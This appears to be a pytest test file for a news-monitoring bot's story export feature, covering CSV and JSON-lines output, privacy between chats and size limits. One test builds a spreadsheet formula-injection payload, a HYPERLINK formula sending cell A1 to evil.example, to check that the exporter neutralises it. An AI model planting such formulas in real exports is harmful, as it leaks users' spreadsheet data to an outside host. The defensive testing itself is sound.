"""Stories as files: with their evidence, harmless to a spreadsheet, and no word of what other chats were told."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from bot.cli import Folders, terminal
from bot.cli.exporting import export_stories
from bot.commands import Answer, exporting
from bot.commands.exporting import COLUMNS, written
from bot.errors import CommandError
from bot.model import Receiver, Route
from tests.deskwork import CLIMBS, LINK, PROFIT, Desk
from tests.questions import Room

FILES = {
    "wirewatch": "receivers:\n  terminal: {via: console}\n",
    "sources": "sources:\n  - {id: harbour, name: Harbour Wire, url: 'https://harbour.example/feed'}\n",
    "watchlist": "watches:\n  globex: {name: Globex}\n  acme: {name: Acme}\n",
}


@pytest.fixture
def room(desk: Desk) -> Room:
    desk.settings = replace(
        desk.settings,
        receivers={**desk.settings.receivers, "team": Receiver(id="team", via="chat", chat="2")},
        routes=(Route(name="all", to=("desk", "team"), min_score=40),),
    )
    desk.read("harbour", PROFIT, link=LINK)
    desk.read("south", CLIMBS, link=LINK)
    asyncio.run(desk.deliver())
    return Room(desk)


def file_of(given: Answer) -> str:
    assert given.message.attachment is not None
    assert not given.message.attachment.picture
    return given.message.attachment.content.decode()


def table(given: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file_of(given))))


def test_a_story_is_one_line_with_its_evidence(room: Room) -> None:
    given = room.says("/export globex since:30d csv")
    (row,) = table(given)

    assert list(row) == list(COLUMNS)
    assert row["headline"] == PROFIT
    assert row["watches"] == "globex"
    assert row["sources"] == "2"
    assert row["level"] in {"important", "urgent"}
    assert "earnings" in row["events"]
    assert row["points"].startswith("globex: headline +")
    assert row["reports"] == "https://wire.example/news/7; https://wire.example/news/7"


def test_the_message_says_what_is_in_the_file(room: Room) -> None:
    given = room.says("/export globex since:30d csv")
    assert given.message.attachment is not None
    assert given.message.attachment.name == "wirewatch-2026-05-20-1212.csv"
    assert given.message.plain == "Globex · 30 days · 1 story"
    assert Room(room.desk, language="zh").shown("导出 globex") == "Globex · 1 条"


@pytest.mark.parametrize(
    "line",
    [
        "/export globex --format jsonl",
        "/export --format=jsonl globex",
        "/export globex —format json",
        "/导出 globex jsonl",
    ],
)
def test_json_lines_hold_the_same_as_lists(room: Room, line: str) -> None:
    (row,) = [json.loads(line) for line in file_of(room.says(line)).splitlines()]

    assert row["watches"] == ["globex"]
    assert [report["source"] for report in row["reports"]] == ["Harbour", "South"]
    assert row["points"][0]["points"][0]["rule"] == "headline"


def test_a_chat_learns_nothing_of_what_another_was_told(room: Room) -> None:
    assert [told["receiver"] for told in rows(room.says("/export globex"))[0]["told"]] == ["desk"]
    room.receiver = ""
    assert rows(room.says("/export globex"))[0]["told"] == []
    room.via, room.admin = "console", True
    told = rows(room.says("export globex"))[0]["told"]
    assert [(one["receiver"], one["how"]) for one in told] == [("desk", "alert"), ("team", "alert")]


def rows(given: Answer) -> list[dict[str, Any]]:
    return [dict(row) for row in given.rows]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "＝", "\r="])
def test_no_headline_is_calculated_by_a_spreadsheet(room: Room, begin: str) -> None:
    (row,) = rows(room.says("/export globex"))
    evil = f'{begin}HYPERLINK("https://evil.example?"&A1,"Globex")'
    lines = b"".join(written([row | {"headline": evil, "source": evil}], "csv")).decode()
    (read,) = csv.DictReader(io.StringIO(lines))

    assert read["headline"].startswith("'")
    assert read["source"].startswith("'")
    assert None not in read


def test_no_text_breaks_out_of_its_cell(room: Room) -> None:
    (row,) = rows(room.says("/export globex"))
    lines = b"".join(written([row | {"headline": 'a",b\n"=1+1\0;=2 \ud800'}], "csv")).decode()

    (read,) = csv.DictReader(io.StringIO(lines))
    assert read["headline"] == 'a",b "=1+1;=2 ?'


def test_an_address_that_may_not_be_shown_stays_out(room: Room) -> None:
    room.desk.read("east", "Globex sells its yacht", link="user:secret@east.example/x", uid="y")

    assert "secret" not in file_of(room.says("/export globex jsonl"))


def test_a_long_export_says_that_it_was_cut(room: Room, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "MOST_STORIES", 1)
    room.desk.read("east", "Globex sells its yacht to a museum")

    given = room.says("/export globex")
    assert [row["headline"] for row in table(given)] == ["Globex sells its yacht to a museum"]
    assert given.message.plain.splitlines()[1].startswith("The newest 1 are in the file")


def test_a_file_is_never_larger_than_a_chat_takes(room: Room, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "MOST_BYTES", 900)
    for place in ("Milan", "Hunan", "Johor"):
        room.desk.read("east", f"Globex opens a museum of {place} porcelain on {place} square")

    given = room.says("/export globex")
    assert len(file_of(given).encode()) <= 900
    assert len(table(given)) == len(given.rows) < 4


def test_nothing_to_export_and_unknown_formats_are_answered(room: Room) -> None:
    assert room.shown("/export zzz") == "There is nothing to export: no story fits."
    assert room.shown("/export globex --format xlsx") == (
        "“xlsx” is not a format: write csv or jsonl, as in /export 腾讯 since:30d csv"
    )
    assert "There is no kind of event" in room.shown("/export event:zzz csv")


def test_the_terminal_writes_all_of_it_to_a_file_or_a_pipe(
    room: Room,
    tmp_path: Path,
    capfdbinary: pytest.CaptureFixture[bytes],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(Folders, "config", Folders.config)
    monkeypatch.setattr(Folders, "state", Folders.state)
    config = tmp_path / "config"
    config.mkdir()
    for name, text in FILES.items():
        (config / f"{name}.yaml").write_text(text, encoding="utf-8")
    file = tmp_path / "globex.csv"

    assert export_stories(["globex", "--format", "jsonl"], None, config, tmp_path) == 0
    (line,) = capfdbinary.readouterr().out.splitlines()
    assert [told["receiver"] for told in json.loads(line)["told"]] == ["desk", "team"]

    assert export_stories(["globex"], file, config, tmp_path) == 0
    assert capfdbinary.readouterr().err.decode() == f"1 story written to {file}\n"
    (row,) = csv.DictReader(io.StringIO(file.read_text(encoding="utf-8")))
    assert row["headline"] == PROFIT

    assert export_stories(["acme"], None, config, tmp_path) == 1
    typed = ["--config", str(config), "--state", str(tmp_path), "export", "globex", "-acme"]
    assert rows_typed([*typed, "--json"]) == rows_typed([*typed, "--format", "jsonl"]) == [PROFIT]
    with pytest.raises(CommandError, match="no such file or directory"):
        export_stories(["globex"], tmp_path / "gone" / "x.csv", config, tmp_path)


def rows_typed(arguments: list[str]) -> list[str]:
    """The headlines that the program writes as JSON lines."""
    ran = CliRunner().invoke(terminal, arguments)
    assert ran.exit_code == 0, ran.output
    return [json.loads(line)["headline"] for line in ran.stdout.splitlines()]
